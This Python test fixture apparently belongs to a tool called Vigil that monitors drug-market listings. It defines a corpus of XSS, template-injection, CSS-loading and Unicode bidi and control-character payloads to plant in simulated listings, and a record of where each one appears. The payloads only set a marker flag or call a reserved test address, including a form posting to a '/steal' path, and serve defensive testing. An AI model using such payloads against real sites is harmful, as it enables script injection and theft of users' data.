"""Hostile listings: a corpus of XSS, markup and Unicode payloads a careless market would carry.

`World(..., hostile=True)` makes nightowl show the corpus: the first `len(TITLE_PAYLOADS)`
listings get a payload after their (drug-naming) title and another before their description,
and its vendors that are not shared with swapbay get hostile aliases. Titles and vendor names
are HTML-escaped, as nightowl escapes them; every third description is shown raw, as a market
that lets vendors write HTML would (so the captured page itself carries live markup).

Every payload, if it ever ran, sets `window.__vigil_pwned = true` or asks for something from
198.51.100.7 (TEST-NET-2, RFC 5737: an address no test starts). The truth lists each
payload with where it is shown (`World.hostile_truth()`), so a test can find every one of
them in the app. Written for Vigil's tests; not taken from any real page.
"""

from __future__ import annotations

from dataclasses import dataclass

PWN = "window.__vigil_pwned=true"
REMOTE = "http://198.51.100.7"

#: Shown in titles (single line each; after the drug name, so the listing stays a drug listing).
TITLE_PAYLOADS: tuple[str, ...] = (
    f"<script>{PWN}</script>",
    f'"><script>{PWN}</script>',
    f"</script><script>{PWN}</script>",
    f"<img src=x onerror={PWN}>",
    f'<img src="x" onerror="{PWN}">',
    f"<svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f"<body onload={PWN}>",
    '<iframe src="javascript:top.__vigil_pwned=true"></iframe>',
    '<iframe srcdoc="<script>parent.__vigil_pwned=true</script>"></iframe>',
    f'<a href="javascript:{PWN}">more info</a>',
    "<object data=\"data:text/html,<script>parent.__vigil_pwned=true</script>\"></object>",
    "<embed src=\"data:image/svg+xml,<svg onload='parent.__vigil_pwned=true'/>\">",
    f"<style>@import url({REMOTE}/import.css);</style>",
    f'<div style="background:url({REMOTE}/bg.png)">bulk</div>',
    f'<div style="width:expression({PWN})">x</div>',
    f"<img src={REMOTE}/x.png>",
    f"<link rel=stylesheet href={REMOTE}/s.css>",
    f'" onmouseover="{PWN}" x="',
    f"' onfocus='{PWN}' autofocus x='",
    f"<input autofocus onfocus={PWN}>",
    f"<details open ontoggle={PWN}>",
    f"<math><mtext></p><script>{PWN}</script></mtext></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror={PWN}>\"></noscript>",
    "{{constructor.constructor('window.__vigil_pwned=true')()}}",
    "{{7*7}} {% raw %}{{7*7}}{% endraw %} {{ config }}",
    "${7*7} #{7*7} <%= 7*7 %> ${alert(1)}",
    f'<meta http-equiv="refresh" content="0;url={REMOTE}/">',
    f'<base href="{REMOTE}/">',
    f'<form action="{REMOTE}/steal"><button>pay</button></form>',
    f"javascript:{PWN}",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX192aWdpbF9wd25lZD10cnVlPC9zY3JpcHQ+",
    f"<svg><animate onbegin={PWN} attributeName=x dur=1s>",
    f"<video><source onerror={PWN}></video>",
    "\u202etxt.exe 5g\u202c original",               # right-to-left override
    "\u2066isolated\u2069 \u2067rtl\u2069 \u2068first\u2069",  # bidi isolates
    "zero\u200bwidth\u200c\u200djoin\ufeffbom\u2060word",   # zero-width characters
    "bell\u0007escape\u001b[31mred\u001b[0m",        # C0 controls (terminal escapes)
)

#: Put before descriptions (may span lines).
DESCRIPTION_PAYLOADS: tuple[str, ...] = (
    f"<script>{PWN}</script>\nfresh batch",
    f'<img src=x onerror="{PWN}">',
    f"<svg/onload={PWN}>",
    f'<iframe src="{REMOTE}/frame"></iframe>',
    f'<style>body{{background:url({REMOTE}/desc.png)}}</style>',
    f"<img src={REMOTE}/pixel.gif>",
    f'<a href="javascript:{PWN}">PGP here</a>',
    "{{7*7}} ${7*7}",
    "\u202eStealth shipping\u202c",
    f"</div></div><script>{PWN}</script><div>",
)

#: Vendor aliases (escaped in the vendor link, the vendor page and its URL).
VENDOR_PAYLOADS: tuple[str, ...] = (
    f"<script>{PWN}</script>",
    f'"><img src=x onerror={PWN}>',
    "\u202erodnev_tseb",
    "{{7*7}}_shop",
    f"<svg onload={PWN}>",
    f"javascript:{PWN}//",
    f"</script><img src={REMOTE}/v.png>",
    "zero\u200bwidth\u2066vendor\u2069",
)

#: Descriptions of listing k are shown raw (unescaped) when k % RAW_EVERY == RAW_EVERY - 1.
RAW_EVERY = 3


@dataclass(frozen=True)
class HostileTruth:
    """One payload as a market shows it: in `field` (title, description or vendor) of the
    listing `listing_id` (vendor: the alias, its listings are those with this vendor);
    `raw` when the market put it into the page unescaped (the page then shows markup)."""

    market: str
    field: str
    payload: str
    raw: bool
    listing_id: str | None = None
    vendor: str | None = None


def title(k: int, base: str) -> str:
    """The title of hostile listing k: the drug title, then its payload."""
    return f"{base} {TITLE_PAYLOADS[k]}"


def description(k: int, base: str) -> str:
    return f"{DESCRIPTION_PAYLOADS[k % len(DESCRIPTION_PAYLOADS)]}\n{base}"


def raw_description(k: int) -> bool:
    return k % RAW_EVERY == RAW_EVERY - 1
